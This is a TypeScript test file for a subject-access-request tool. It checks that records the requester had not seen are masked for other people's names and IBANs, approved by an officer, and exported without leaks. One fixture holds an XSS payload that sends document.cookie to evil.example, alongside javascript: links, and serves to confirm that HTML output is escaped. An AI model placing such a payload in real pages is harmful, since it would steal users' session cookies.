/** What the person had not seen waits for a reviewer, and reaches them masked; what they wrote themselves reaches them as it was. */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Participant } from '../../connectors/contract.ts';
import type { RequestId, TaskId } from '../../src/ids.ts';
import { addChange, chunksToMask, reviewedBy } from '../../src/ledger/masks.ts';
import { closeTask } from '../../src/ledger/tasks.ts';
import { maskerFor } from '../../src/package/masked.ts';
import { type OpenedChunk, openChunks } from '../../src/package/staged.ts';
import { approveMasks, changeMask, type ShownRecord, showMasks } from '../../src/requests/masks.ts';
import { findRequest } from '../../src/requests/record.ts';
import { historyJson, historyOf, historyText } from '../support/history.ts';
import { leaks, type Place } from '../support/leaks.ts';
import { PackageFile } from '../support/package-file.ts';
import { DeskSystem } from './desk-system.ts';
import { newWorld, type World } from './world.ts';

const people: readonly Participant[] = [
  { who: 'subject', names: ['Anna Marker'], addresses: ['anna.marker@example.ee'] },
  { who: 'staff', names: ['Mari Maasikas'], addresses: ['mari@sound.example'] },
  { who: 'other', names: ['Peeter Sepp'], addresses: ['peeter.sepp@baar.example'] },
];
const hostile = `<script>fetch("//evil.example/"+document.cookie)</script><img src="https://evil.example/x.png"><a href="javascript:alert(1)">Sepp</a>`;
const longLine = `${hostile}${'<b onclick=alert(1)>x</b> '.repeat(200_000)}Peeter Sepp`;
const seenBody = 'Tere, Mari Maasikas! Peeter Sepp ütles, et helistaksite 5345 6789. Anna Marker';
const system = new DeskSystem({
  seen: [{ id: 's1', record: { ticket: 9007199254740991, body: seenBody }, people }],
  unseen: [
    { id: 'u1', record: { ticket: 1, body: 'Anna maksis, Peetri sõnul. Tema naaber Kati Kuusik on tüütu.' }, people },
    { id: 'u2', record: { body: `Mari: Anna Marker on keeruline klient. IBAN EE38 2200 2210 2014 5685` }, people },
    {
      id: 'u3',
      record: { body: 'Helen says we are at fault.' },
      people: [...people, { who: 'counsel', names: ['Helen Park'] }],
    },
    { id: 'u4', record: { body: longLine }, people },
    {
      id: 'u5',
      record: { body: 'scan', file: { name: 'Peeter.pdf', type: 'application/pdf', base64: 'UGVldGVyIFNlcHA=' } },
      people,
    },
  ],
});
const hidden = [
  'Peetri sõnul',
  'Peeter Sepp',
  'Mari Maasikas',
  'EE38 2200 22',
  'Kati Kuusik',
  'Helen says',
  'UGVldGVyIFNlcHA',
];

describe('records that the person had not seen', () => {
  let world: World;
  let id: RequestId;
  let taskId: TaskId;

  beforeAll(async () => {
    world = await newWorld('wf-masks', { systems: { 'account-db': system } });
    await world.work();
    id = await world.open();
    const shown = await world.shows(id, ({ tasks }) => tasks.some(({ kind }) => kind === 'mask'));
    const task = shown.tasks.find(({ kind }) => kind === 'mask');
    if (task === undefined) throw new Error('no review');
    taskId = task.id;
  });
  afterAll(() => world?.close());

  const officer = () => world.ledger.people.officer;
  const records = async () => {
    const { summary, records: all } = await showMasks(world.deps, taskId, officer());
    const found: ShownRecord[] = [];
    for await (const one of all()) found.push(one);
    return { summary, found };
  };
  const maskOf = async (text: string) => {
    const mask = (await records()).found.flatMap(({ masks }) => masks).find((one) => one.text === text);
    if (mask === undefined) throw new Error(`no mask of ${text}`);
    return mask.no;
  };

  it('are shown to a reviewer as they are and as they will be, and to nobody else', async () => {
    const shown = await world.shows(id, ({ state }) => state === 'needs_decision');
    expect(shown.systems[0]).toMatchObject({ state: 'waiting', stage: 'read', found: 6 });
    expect(shown.packages).toEqual([]);
    const { summary, found } = await records();
    expect(summary).toMatchObject({ isOpen: true, records: 5, changes: 0 });
    expect(found.map(({ no }) => no)).toEqual([1, 2, 3, 4, 5]);
    const body = found[0]?.texts.find(({ path }) => path.join() === 'body');
    expect(body?.before).toContain('Peetri sõnul');
    expect(body?.after).toBe(
      'Anna maksis, ⟦masked: the name of another person⟧ sõnul. Tema naaber Kati Kuusik on tüütu.',
    );
    expect(found[1]?.masks.map(({ kind, who }) => [kind, who])).toEqual([
      ['name', 'staff'],
      ['iban', 'other'],
    ]);
    expect(found[2]?.isWithheld).toBe(true);
    expect(found[4]?.masks).toEqual([expect.objectContaining({ kind: 'file' })]);
    await expect(showMasks(world.deps, taskId, world.ledger.people.agent)).rejects.toMatchObject({
      code: 'person-role',
    });
    await expect(showMasks(world.deps, taskId, undefined)).rejects.toMatchObject({ code: 'person-needed' });
  });

  it('are masked as they were looked through and as they were approved, or not given out', async () => {
    const { deps } = world;
    const { db } = deps.ledger;
    const key = await reviewedBy(db, taskId);
    if (key === undefined) throw new Error('no reading');
    const request = await findRequest(db, id);
    const workingKey = await deps.keys.use(request.working_key_id);
    const source = { storage: deps.storage, bucket: world.bucket, workingKey, requestId: id, signal: undefined };
    const undone = new Error('undone');
    const attempt = db.transaction().execute(async (trx) => {
      const masker = () => maskerFor({ ...deps, ledger: { ...deps.ledger, db: trx } }, source, { request });
      // The data map says meanwhile that the collection holds no files.
      const chunks = (await chunksToMask(trx, key)).map((chunk) => ({ ...chunk, files: [] }));
      const opened: OpenedChunk[] = [];
      for await (const one of openChunks({ ...source, progress: () => undefined }, chunks)) opened.push(one);
      const [chunk] = opened;
      if (chunk === undefined) throw new Error('no chunk');
      const missing = expect.objectContaining({ code: 'masks-missing' });
      await expect(masker()(chunk)).rejects.toEqual(missing);
      await closeTask(trx, { taskId, answer: 'approve', at: deps.now() });
      const released = (await masker()(chunk)).bytes.toString();
      expect(released).toContain('⟦masked: a file');
      expect(released).not.toContain('UGVldGVyIFNlcHA=');
      // Whoever writes into the ledger past the commands changes nothing that is given out.
      const { id: decisionId } = await trx.selectFrom('people_decisions').select('id').executeTakeFirstOrThrow();
      const { name } = await trx.selectFrom('sealed_objects').select('name').executeTakeFirstOrThrow();
      await addChange(trx, key, { no: 1, decisionId, sealed: name });
      await expect(masker()(chunk)).rejects.toEqual(missing);
      throw undone;
    });
    await expect(attempt).rejects.toBe(undone);
  });

  it('are approved as they were seen, after every change, and not before', async () => {
    const { summary } = await records();
    const signedBy = officer();
    const change = { taskId, signedBy, reason: 'indispensable to understand it' };
    const released = await maskOf('Mari');
    await changeMask(world.deps, { ...change, change: { op: 'release', mask: released } });
    const add = { op: 'add', record: 1, text: 'Kati Kuusik', kind: 'name', who: 'other' } as const;
    await changeMask(world.deps, { ...change, change: add });
    const wrong = { ...change, change: { op: 'release', mask: 999_999 } } as const;
    await expect(changeMask(world.deps, wrong)).rejects.toMatchObject({ code: 'mask-unknown' });
    const silent = { ...change, reason: undefined, change: { op: 'give', record: 3 } } as const;
    await expect(changeMask(world.deps, silent)).rejects.toMatchObject({ code: 'reason-needed' });
    // What was seen before the changes is not what would be approved.
    const old = approveMasks(world.deps, { taskId, masks: summary.sha256.slice(0, 12), signedBy });
    await expect(old).rejects.toMatchObject({ code: 'masks-changed' });
    expect((await world.shows(id, () => true)).packages).toEqual([]);

    const now = (await records()).summary;
    expect(now.changes).toBe(2);
    const { rows } = await world.ledger.asOwner(
      `select statement from people_decisions where kind = 'mask' order by seq`,
    );
    const signed = rows.map(({ statement }) => JSON.parse(statement).details);
    expect(signed).toEqual([
      { task: taskId, mask: released },
      { task: taskId, record: 1, kind: 'name', who: 'other' },
    ]);
    const masks = now.sha256.slice(0, 12);
    const stranger = world.ledger.people.agent;
    await expect(approveMasks(world.deps, { taskId, masks, signedBy: stranger })).rejects.toMatchObject({
      code: 'person-role',
    });
    expect(await approveMasks(world.deps, { taskId, masks, signedBy })).toMatchObject({ settled: true });
    const late = changeMask(world.deps, { ...change, change: { op: 'give', record: 3 } });
    await expect(late).rejects.toMatchObject({ code: 'masks-closed' });
  });

  it('reach the person masked, with a reason each, harmless, and the books balance', async () => {
    const done = await world.shows(id, ({ state }) => state === 'completed');
    expect(done.systems[0]).toMatchObject({ state: 'done', found: 6, exported: 5, withheld: 1 });
    const { object_name: name } = await world.deps.ledger.db
      .selectFrom('packages')
      .select('object_name')
      .where('request_id', '=', id)
      .executeTakeFirstOrThrow();
    const file = await PackageFile.read(await world.deps.storage.get(world.bucket, name));
    expect(file.wrongInManifest()).toEqual([]);
    const given = file.records('account-db', 'comments');
    // What they wrote themselves is untouched, numbers to the last digit.
    expect(given[0]).toMatchObject({ body: seenBody });
    expect(file.whereIs('9007199254740991')).not.toEqual([]);
    expect(given.map((one) => one.body).slice(1, 3)).toEqual([
      'Anna maksis, ⟦masked: the name of another person⟧ sõnul. Tema naaber ⟦masked: the name of another person⟧ on tüütu.',
      'Mari: Anna Marker on keeruline klient. IBAN ⟦masked: the account number (IBAN) of another person⟧',
    ]);
    expect(given[4]).toMatchObject({ id: 'u5', file: { masked: expect.stringContaining('⟦masked: a file') } });
    const csv = file.member('systems/account-db/comments.csv').toString();
    const page = file.member('systems/account-db/comments.html').toString();
    const json = JSON.stringify(given.slice(1));
    for (const text of [csv, page]) expect(text).toContain('⟦masked: the name of another person⟧');
    for (const marker of hidden) expect(json).not.toContain(marker);
    // What they were sent stands once; what they were not stands nowhere.
    for (const text of [csv, page]) expect(text.split('Peeter Sepp')).toHaveLength(2);
    expect(page).not.toMatch(/<script|<img|<b |javascript:alert\(1\)"|href="javascript/i);
    expect(page).toContain('&lt;script&gt;');
    expect(page).toContain('content="default-src &#39;none&#39;');
    expect(page).toContain('Legal advice given to the company is not handed out.');
  });

  it('leave nothing of a passage where it could be read', async () => {
    const history = await historyOf(world.deps.config.temporal, id);
    const places: Place[] = [
      { where: 'history', content: Buffer.from(historyText(history)) },
      { where: 'history as JSON', content: Buffer.from(historyJson(history)) },
    ];
    const { rows } = await world.ledger.asOwner(
      `select format('%I.%I', schemaname, tablename) as name from pg_tables where schemaname = 'public'`,
    );
    for (const { name } of rows) {
      const dumped = await world.ledger.asOwner(`select row_to_json(t)::text as line from ${name} t`);
      places.push({ where: name, content: Buffer.from(dumped.rows.map(({ line }) => line).join('\n')) });
    }
    expect(rows.map(({ name }) => name)).toContain('public.mask_changes');
    expect(leaks(places, [...hidden, 'anna.marker', 'indispensable to'])).toEqual([]);
  });
});
